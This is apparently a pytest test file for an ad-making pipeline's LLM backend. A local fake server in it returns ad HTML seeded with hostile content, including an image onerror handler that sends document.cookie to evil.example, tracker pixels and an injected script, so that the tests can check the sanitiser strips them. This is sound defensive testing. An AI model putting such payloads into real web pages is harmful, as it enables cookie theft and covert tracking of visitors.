"""The LLM backend against a real OpenAI-compatible server on loopback, and the built-in prompts.

The server speaks the chat-completions protocol the openai SDK uses and answers from what it is asked
(the copy, the layout analysis, the fonts named in the prompt), the way a model would: including the
things a model should not write (scripts, handlers, remote URLs), which must never reach the page.
"""

from __future__ import annotations

import json
import re
import threading
import time
from collections.abc import Iterator
from dataclasses import replace
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import cv2
import numpy as np
import pytest

from nanococoa_mcp.ad.backends.llm_copy import HTML_SCHEMA, SCENE_SCHEMA, build_document, prompts_for
from nanococoa_mcp.ad.backends.studio.layout import analyse
from nanococoa_mcp.ad.catalog.styles import STYLES, resolve_style
from nanococoa_mcp.ad.catalog.text_styles import resolve_text_style
from nanococoa_mcp.ad.scene_prompts import PHRASES, has_hangul, scene_prompt, translate
from nanococoa_mcp.ad.stages import copy_design, final
from nanococoa_mcp.llm import AnswerRejected
from nanococoa_mcp.settings import Settings, get_settings
from tests.conftest import ThreadRenderer

W, H = 1080, 1350
SAFE = (65, 68, 1015, 1282)
COPY, SUB = "건어물 대박 세일", "오늘만 30% 할인"
MODEL = "test-model"


# --- a local OpenAI-compatible server -------------------------------------------------------------------


class _QuietServer(ThreadingHTTPServer):
    daemon_threads = True

    def handle_error(self, request: Any, client_address: Any) -> None:
        return  # a client that timed out and hung up is expected here, not a failure


class FakeLLM:
    """POST /v1/chat/completions on 127.0.0.1; `mode` picks the behaviour, `requests` records every call."""

    def __init__(self) -> None:
        self.mode = "ok"
        self.requests: list[dict[str, Any]] = []
        self.release = threading.Event()
        owner = self

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
                owner.requests.append({"path": self.path, "auth": self.headers.get("Authorization"), "body": body})
                if owner.mode == "500":
                    self._send(500, {"error": {"message": "model crashed", "type": "server_error"}})
                    return
                if owner.mode == "slow":
                    owner.release.wait(5)
                content = owner.answer(body)
                self._send(
                    200,
                    {
                        "id": f"chatcmpl-{len(owner.requests)}",
                        "object": "chat.completion",
                        "created": int(time.time()),
                        "model": body["model"],
                        "choices": [
                            {
                                "index": 0,
                                "message": {"role": "assistant", "content": content},
                                "finish_reason": "stop",
                            }
                        ],
                        "usage": {"prompt_tokens": 300, "completion_tokens": 120, "total_tokens": 420},
                    },
                )

            def _send(self, status: int, payload: dict[str, Any]) -> None:
                data = json.dumps(payload).encode()
                self.send_response(status)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)

            def log_message(self, format: str, *args: object) -> None:
                return

        self.server = _QuietServer(("127.0.0.1", 0), Handler)
        self.thread = threading.Thread(target=self.server.serve_forever, args=(0.05,), daemon=True)
        self.thread.start()

    @property
    def base_url(self) -> str:
        return f"http://127.0.0.1:{self.server.server_address[1]}/v1"

    def answer(self, body: dict[str, Any]) -> str:
        prompt = body["messages"][-1]["content"]
        if self.mode == "invalid_json":
            return "Sure! Here is a lovely design: <div>" + prompt[:40] + "</div>"
        schema_name = body["response_format"]["json_schema"]["name"]
        if schema_name == "scene_prompts":
            copy = re.search(r'Korean ad copy: "(.*?)"', prompt)
            style = re.search(r'Requested background style: "(.*?)"', prompt)
            assert copy and style
            subject = "dried seafood" if "건어물" in copy.group(1) else "a product"
            return json.dumps(
                {
                    "background_prompt": f"A rustic wooden market table set for {subject}, "
                    f"{style.group(1).split(' (')[0].lower()} atmosphere, warm lantern light, photorealistic",
                    "text_prompt": f"Bold 3D Korean lettering '{copy.group(1)}', red and gold, festive",
                },
                ensure_ascii=False,
            )
        return json.dumps({"html": self.design(prompt)}, ensure_ascii=False)

    def design(self, prompt: str) -> str:
        text = re.search(r'\*\*Text Content\*\*: "(.*?)"', prompt)
        sub = re.search(r'\*\*Sub Copy\*\*: "(.*?)"', prompt)
        fonts = re.search(r"Use only these font families: (.*)", prompt)
        size = re.search(r"Font size: (\d+)-(\d+)px", prompt)
        assert text and sub and fonts and size
        family = fonts.group(1).split(",")[0].strip().strip('"')
        copy = text.group(1) if self.mode != "wrong_copy" else "완전히 다른 문구"
        ink, plate = ("#1A1A1A", "background: rgba(255,255,255,0.94); ") if self.mode != "pale" else ("#D8D8D8", "")
        return f"""<!DOCTYPE html><html><head>
<style>@import url('http://fonts.example.com/jua.css');
.headline {{ color: {ink}; font-size: {size.group(2)}px; letter-spacing: -1px; }}
.tag::after {{ content: url(http://tracker.example/t.gif); }}</style></head>
<body><div style="position:absolute; left:120px; top:60px; width:560px; text-align:center; {plate}
padding:18px 28px; border-radius:20px; transform: rotate(-3deg)" onclick="steal()">
<h1 class="headline" style="font-family:'{family}', 'Comic Sans MS'; margin:0;
background-image:url(http://tracker.example/p.gif)">{copy}</h1>
<p class="tag" style="font-size:{int(size.group(2)) // 2}px; color:#FFFFFF; background:#C0392B; padding:6px 18px;
border-radius:999px; margin:10px 0 0">{sub.group(1)}</p>
<img src="http://tracker.example/pixel.png" onerror="fetch('http://evil.example/?c='+document.cookie)">
<script>document.body.innerHTML = 'pwned'</script></div></body></html>"""

    def close(self) -> None:
        self.release.set()
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def llm_server(monkeypatch: pytest.MonkeyPatch) -> Iterator[FakeLLM]:
    monkeypatch.delenv("OPENAI_API_KEY", raising=False)
    monkeypatch.delenv("OPENAI_BASE_URL", raising=False)
    server = FakeLLM()
    yield server
    server.close()


def _settings(server: FakeLLM | None, timeout: float = 10.0) -> Settings:
    if server is None:
        return Settings(llm_base_url=None, llm_timeout_sec=timeout)
    return Settings(
        llm_base_url=server.base_url, llm_model=MODEL, llm_timeout_sec=timeout, NANOCOCOA_LLM_API_KEY="sk-local"
    )


def _scene(tone: int = 235) -> tuple[np.ndarray, np.ndarray, np.ndarray]:
    yy, xx = np.mgrid[0:H, 0:W]
    img = np.full((H, W, 3), tone, np.uint8)
    mask = ((xx - 540) / 270) ** 2 + ((yy - 930) / 330) ** 2 < 1
    img[mask] = (196, 70, 40)
    product = np.zeros((H, W, 4), np.uint8)
    product[mask] = (196, 70, 40, 255)
    return img, product, mask


def _design(inp: copy_design.CopyInput, settings: Settings) -> copy_design.CopyOutput:
    """The copy stage with the llm backend, as an ad runs it."""
    return copy_design.run(inp, copy_design.CopyParams(backend="llm"), settings)


def _input(copy: str = COPY, sub: str | None = SUB, tone: int = 235) -> copy_design.CopyInput:
    img, _product, mask = _scene(tone)
    lay = analyse(img, mask, SAFE)
    return copy_design.CopyInput(
        copy=copy,
        sub_copy=sub,
        style=resolve_text_style("gold_balloon"),
        analysis=lay,
        region=lay.empty_spaces[0],
        background=img,
    )


def _final(renderer: ThreadRenderer, doc: copy_design.CopyDocument, tone: int = 235) -> final.FinalOutput:
    img, product, mask = _scene(tone)
    core = cv2.erode(mask.astype(np.uint8), np.ones((3, 3), np.uint8)).astype(bool)
    return final.run(
        final.FinalInput(
            step1=img,
            product_layer=product,
            core_mask=core,
            product_mask=mask,
            text=renderer.render(doc),
            doc=doc,
            safe_box=SAFE,
            cutout_confidence=0.9,
        )
    )


# --- scene prompts ------------------------------------------------------------------------------------------


def test_scene_prompts_come_from_the_endpoint_by_json_schema(llm_server: FakeLLM) -> None:
    style = resolve_style("전통시장")
    out = prompts_for(COPY, style, _settings(llm_server), text_style=resolve_text_style("gold_balloon"))
    assert out.backend == "llm" and out.fallback_reason is None
    assert out.prompts.background_prompt.startswith("A rustic wooden market table set for dried seafood")
    assert "traditional market atmosphere" in out.prompts.background_prompt
    assert out.prompts.background_prompt.endswith("no text, no letters, no logos, photorealistic")  # tail added
    assert "'건어물 대박 세일'" in out.prompts.text_prompt
    (req,) = llm_server.requests
    assert req["path"] == "/v1/chat/completions" and req["auth"] == "Bearer sk-local"
    body = req["body"]
    assert body["model"] == MODEL
    assert COPY in body["messages"][0]["content"] and "Traditional market" in body["messages"][0]["content"]
    assert body["response_format"] == {
        "type": "json_schema",
        "json_schema": {"name": "scene_prompts", "strict": True, "schema": SCENE_SCHEMA},
    }


def test_without_an_endpoint_the_phrase_table_writes_the_prompts(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("OPENAI_API_KEY", raising=False)
    out = prompts_for(COPY, resolve_style("전통시장"), _settings(None))
    assert out.backend == "builtin"
    assert "no LLM endpoint is configured" in (out.fallback_reason or "")
    assert out.prompts == scene_prompt(COPY, resolve_style("전통시장"))


@pytest.mark.parametrize(("mode", "reason"), [("500", "InternalServerError"), ("invalid_json", "not JSON")])
def test_a_failing_endpoint_falls_back_to_the_phrase_table_with_the_reason(
    llm_server: FakeLLM, mode: str, reason: str
) -> None:
    llm_server.mode = mode
    out = prompts_for(COPY, resolve_style("minimal"), _settings(llm_server))
    assert out.backend == "builtin" and reason in (out.fallback_reason or "")
    assert out.prompts == scene_prompt(COPY, resolve_style("minimal"))
    assert len(llm_server.requests) == (2 if mode == "500" else 1)  # one retry on a server error, then give up


def test_a_silent_endpoint_times_out_and_falls_back(llm_server: FakeLLM) -> None:
    llm_server.mode = "slow"
    t0 = time.perf_counter()
    out = prompts_for(COPY, resolve_style("minimal"), _settings(llm_server, timeout=0.4))
    assert time.perf_counter() - t0 < 4.5
    assert out.backend == "builtin" and "APITimeoutError" in (out.fallback_reason or "")


def test_builtin_scene_prompt_is_english_deterministic_and_asks_for_room_and_no_text() -> None:
    style = resolve_style("전통시장")
    p = scene_prompt("수제 떡볶이 오픈 기념 할인", style)
    assert p == scene_prompt("수제 떡볶이 오픈 기념 할인", style)
    bg = p.background_prompt
    assert not has_hangul(bg)
    assert "tteokbokki" in bg and "Korean rice cakes" not in bg  # the longest word wins
    assert "handmade" in bg and "grand-opening" in bg and "wooden market stall" in bg
    assert "empty space at top for text" in bg and "no text, no letters" in bg
    assert "'수제 떡볶이 오픈 기념 할인'" in p.text_prompt


def test_phrase_table_covers_the_common_shop_words() -> None:
    assert len(PHRASES) >= 60
    for ko, en in [("건어물", "dried seafood"), ("세일", "sale"), ("카페", "cafe"), ("커피", "coffee"),
                   ("전통시장", "traditional Korean market"), ("떡", "rice cake"), ("수제", "handmade"),
                   ("사과", "apples"), ("겨울", "winter")]:  # fmt: skip
        assert any(en in e for e, _kind in translate(ko)), ko
    for style in STYLES:  # every style gives a usable English prompt, even for copy the table does not know
        assert not has_hangul(scene_prompt("안녕하세요", style).background_prompt)


# --- the copy's HTML --------------------------------------------------------------------------------------------


def test_llm_design_is_asked_with_the_layout_analysis_sanitised_and_rendered(
    llm_server: FakeLLM, renderer: ThreadRenderer
) -> None:
    inp = _input()
    out = _design(inp, _settings(llm_server))
    assert out.backend == "llm", out.fallback_reason
    body = llm_server.requests[0]["body"]
    prompt = body["messages"][0]["content"]
    lay = inp.analysis
    assert body["model"] == MODEL
    assert body["response_format"]["json_schema"] == {"name": "copy_html", "strict": True, "schema": HTML_SCHEMA}
    assert f'"{COPY}"' in prompt and f'"{SUB}"' in prompt
    assert inp.region.region in prompt and json.dumps(lay.objects[0].bbox) in prompt
    assert lay.recommendations.text_color in prompt and '"BM JUA_TTF"' in prompt

    doc = out.doc
    low = doc.html.lower()
    for bad in ("<script", "onerror", "onclick", "url(", "http", "@import", "<img", "position:absolute", "pwned"):
        assert bad not in low, bad
    assert {"<script>", "onclick=", "<img>", '@import url("http://fonts.example.com/jua.css")'} <= set(out.notes)
    # The renderer's structure, with our copy (not the model's text) in it, and the model's styling kept.
    assert doc.html.count('class="main"') == 1 and '<span class="back" style="color: #1A1A1A' in doc.html
    assert f">{COPY}</span>" in doc.html and f">{SUB}</span>" in doc.html
    assert "rotate(-3deg)" in doc.html and "rgba(255,255,255,0.94)" in doc.html
    assert doc.plate is not None and doc.plate.opacity == 0.94 and not doc.plate_added
    assert doc.theme.edge_inks == ("#1A1A1A",) and (doc.theme.sub_fill, doc.theme.sub_bg) == ("#FFFFFF", "#C0392B")
    assert doc.font.family == "BM JUA_TTF" and doc.missing_glyphs == ()

    result = _final(renderer, doc)
    q = result.quality
    assert q.passed, q
    assert q.font_size_px > doc.font_size_range[0]  # fitted in the browser, not fixed by the model's px
    # The plate the model designed is on the page: near-white pixels now cover the light-grey scene's top.
    x0, y0, x1, y1 = doc.box
    top = result.image[y0:y1, x0:x1]
    assert (top.min(axis=2) >= 244).sum() > 20_000 and (top.max(axis=2) <= 60).sum() > 2_000


def test_a_design_without_contrast_gets_a_plate_that_reaches_it(llm_server: FakeLLM, renderer: ThreadRenderer) -> None:
    llm_server.mode = "pale"  # light-grey copy, no plate, on a light scene
    out = _design(_input(), _settings(llm_server))
    assert out.backend == "llm"
    assert out.doc.plate_added and out.doc.plate is not None
    q = _final(renderer, out.doc).quality
    assert q.plate_added and q.contrast_ratio >= 4.5 and q.passed, q


def test_llm_copy_backend_is_registered_and_reads_the_environment(
    llm_server: FakeLLM, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("NANOCOCOA_LLM_BASE_URL", llm_server.base_url)
    monkeypatch.setenv("NANOCOCOA_LLM_MODEL", MODEL)
    get_settings.cache_clear()
    doc = copy_design.run(_input(), copy_design.CopyParams(backend="llm")).doc
    assert len(llm_server.requests) == 1 and llm_server.requests[0]["auth"] == "Bearer none"
    assert ".main .face" not in doc.html and "rotate(-3deg)" in doc.html  # the model's design, not a template


@pytest.mark.parametrize(
    ("mode", "reason"),
    [("500", "InternalServerError"), ("invalid_json", "not JSON"), ("wrong_copy", "does not contain the copy")],
)
def test_an_unusable_design_is_replaced_by_the_template_with_the_reason(
    llm_server: FakeLLM, mode: str, reason: str
) -> None:
    llm_server.mode = mode
    inp = _input()
    out = _design(inp, _settings(llm_server))
    assert out.backend == "template" and reason in (out.fallback_reason or "")
    assert out.doc == copy_design.run(inp).doc


def test_without_an_endpoint_the_template_designs_the_copy(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("OPENAI_API_KEY", raising=False)
    inp = _input()
    out = _design(inp, _settings(None))
    assert out.backend == "template" and "no LLM endpoint" in (out.fallback_reason or "")
    assert out.doc == copy_design.run(inp).doc


def test_a_headline_split_into_coloured_words_keeps_its_colour_and_size(renderer: ThreadRenderer) -> None:
    inp = _input(sub=None)
    doc, _removed = build_document(
        '<div style="text-align:left"><span style="color:#B00020; font-size:80px; -webkit-text-stroke: 4px white">'
        '건어물</span> <span style="color:#222">대박 세일</span></div>',
        inp,
    )
    assert "-webkit-text-stroke: 0.05em #FFFFFF" in doc.html and "text-align: left" in doc.html
    assert doc.theme.edge_inks == ("#FFFFFF", "#B00020")
    assert _final(renderer, doc).quality.broken_words == 0


def test_a_contrast_retry_replaces_the_designs_plate_with_a_stronger_one(renderer: ThreadRenderer) -> None:
    design = (
        '<div style="background: linear-gradient(90deg, rgba(255,255,255,0.2), rgba(255,255,255,0.6));'
        ' padding: 20px"><h1 style="color: #EEEEEE; font-size: 90px">건어물 대박 세일</h1></div>'
    )
    first, _ = build_document(design, _input(sub=None))
    assert first.plate is not None and first.plate.opacity == 0.2 and not first.plate_added  # the worst stop
    report = _final(renderer, first).quality
    assert not report.passed  # near-white copy on a near-white, barely-there plate
    asked = final.retry_typesetting(report, final.Typesetting())
    assert asked is not None and asked.plate_boost > 0 and asked.max_font_px is None
    retry, _ = build_document(design, replace(_input(sub=None), plate_boost=asked.plate_boost))
    assert retry.plate_added and retry.plate is not None and retry.plate.color == "#111111"
    assert "linear-gradient" not in retry.html
    assert _final(renderer, retry).quality.passed


def test_an_unsized_design_with_both_lines_in_one_element_still_fits_and_passes(renderer: ThreadRenderer) -> None:
    inp = _input()
    doc, notes = build_document(f'<div style="color:transparent">{COPY}<br>{SUB}</div>', inp)
    assert any("cannot be measured" in n for n in notes)  # an invisible ink is replaced by one we can measure
    assert 'class="sub" style="font-size: 0.42em"' in doc.html
    template = copy_design.run(inp).doc.theme  # the sub-copy's pill: colours the report can measure
    assert (doc.theme.sub_fill, doc.theme.sub_bg) == (template.sub_fill, template.sub_bg)
    q = _final(renderer, doc).quality
    assert q.passed and q.font_size_px > doc.font_size_range[0], q


def test_a_design_that_drops_the_copy_is_rejected() -> None:
    with pytest.raises(AnswerRejected, match="does not contain the copy"):
        build_document("<div style='color:red'>다른 문구</div>", _input())


def test_a_whole_ad_with_use_llm_html_uses_the_llm_design_and_a_step_3_rerun_keeps_it(
    llm_server: FakeLLM, tmp_path: Path
) -> None:
    """Through the real pipeline and checkpoints: the request's flag turns the LLM design on; its
    document is stored with step 2, so compositing again from step 3 gives the same ad."""
    from concurrent.futures import ThreadPoolExecutor

    from nanococoa_mcp.ad.checkpoints import Checkpoints
    from nanococoa_mcp.ad.images import decode_image
    from nanococoa_mcp.ad.pipeline import AdRequest, AdResult, Studio
    from tests.conftest import SAMPLES

    settings = _settings(llm_server).model_copy(update={"data_dir": tmp_path / "data"})
    request = AdRequest(text_content=COPY, size="1:1", use_llm_html=True)
    photo = decode_image((SAMPLES / "dango.png").read_bytes())
    stored = Checkpoints(settings.data_dir, "job-1")

    def make(req: AdRequest, start_step: int) -> AdResult:
        studio = Studio(settings)
        try:
            image = photo if start_step == 1 else None
            return studio.generate(image, req, start_step=start_step, checkpoints=stored)
        finally:
            studio.close()

    with ThreadPoolExecutor(max_workers=1) as pool:  # Playwright's sync API on its own thread
        first = pool.submit(make, request, 1).result()
        asked = [r for r in llm_server.requests if "copy_html" in json.dumps(r["body"])]
        kept = stored.load_step2(1).doc  # the LLM's document, kept with the text layer
        again = pool.submit(make, request, 3).result()
        plain = pool.submit(make, request.model_copy(update={"use_llm_html": False}), 1).result()
    assert asked, "the LLM was asked for the copy's design"
    assert first.variants[0].quality.passed
    assert kept is not None and COPY in kept.html
    assert np.array_equal(again.variants[0].image, first.variants[0].image)
    assert not np.array_equal(plain.variants[0].image, first.variants[0].image)  # the template looks different
